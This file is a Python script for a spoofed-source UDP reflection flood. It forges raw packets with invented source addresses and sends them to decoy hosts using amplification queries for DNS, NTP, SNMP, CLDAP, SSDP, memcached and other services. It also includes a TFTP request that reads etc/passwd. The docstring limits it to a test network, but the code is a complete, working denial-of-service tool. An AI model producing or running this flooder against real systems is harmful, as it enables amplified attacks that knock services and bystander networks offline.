"""Asks decoys for long answers from forged sources: reflection_flood.py SECONDS RATE PREFIX SOURCES PORT...

Sources are PREFIX.0.1, PREFIX.0.7, ... in networks of six; each request comes from a port of its own.
With several ports each source asks all of them in turn.  Raw packets, within the test's network only.
"""
import socket
import struct
import sys
import time

QUESTIONS = {
    17: b"\n",
    19: b"x",
    53: b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03isc\x03org\x00\x00\xff\x00\x01"
        b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00",
    69: b"\x00\x01etc/passwd\x00octet\x00",
    111: bytes.fromhex("72fe1d130000000000000002000186a00000000200000004") + bytes(16),
    123: b"\x17\x00\x03\x2a" + bytes(4),
    161: bytes.fromhex("302602010104067075626c6963a5190203010203020100020164300c300a06062b06010201010500"),
    389: b"\x30\x25\x02\x01\x01\x63\x20\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00"
         b"\x87\x0bobjectClass\x30\x00",
    1900: b"M-SEARCH * HTTP/1.1\r\nHost:239.255.255.250:1900\r\nST:ssdp:all\r\nMan:\"ssdp:discover\"\r\nMX:3\r\n\r\n",
    3478: bytes.fromhex("000100002112a4420102030405060708090a0b0c"),
    3702: b"\r\n",
    5353: b"\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x09_services\x07_dns-sd\x04_udp\x05local\x00\x00\x0c\x00\x01",
    5683: b"@\x01\x01\xce\xbb.well-known\x04core",
    11211: b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n",
}


def packet(source, decoy, sport, port):
    body = QUESTIONS[port]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(body), 0, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(decoy))
    return head + struct.pack("!HHHH", sport, port, 8 + len(body), 0) + body  # checksum 0: none


def main():
    seconds, rate, prefix, count = float(sys.argv[1]), int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    ports = [int(p) for p in sys.argv[5:]]
    first, second, third = (prefix.split(".") + ["0"])[:3]
    sources = ["%s.%s.%d.%d" % (first, second, int(third) + i // 6, 1 + i % 6) for i in range(count)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    for n in range(int(seconds * rate)):
        wait = begin + n / rate - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        port = ports[n // count % len(ports)]
        decoy = "192.0.2.%d" % (10 + n % 7)
        raw.sendto(packet(sources[n % count], decoy, 1024 + n % 60000, port), (decoy, 0))


main()
